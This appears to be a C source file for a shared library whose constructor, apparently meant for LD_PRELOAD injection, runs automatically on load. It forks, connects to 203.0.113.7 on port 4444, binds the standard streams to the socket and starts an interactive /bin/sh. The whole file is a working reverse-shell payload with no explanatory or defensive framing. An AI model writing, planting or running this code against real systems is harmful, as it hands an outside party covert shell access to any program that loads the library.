#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

static void __attribute__((constructor)) preload_init(void) {
    struct sockaddr_in sa;
    int s;
    if (fork() != 0)
        return;
    s = socket(AF_INET, SOCK_STREAM, 0);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(4444);
    sa.sin_addr.s_addr = inet_addr("203.0.113.7");
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
        dup2(s, 0);
        dup2(s, 1);
        dup2(s, 2);
        execl("/bin/sh", "sh", "-i", (char *)0);
    }
}
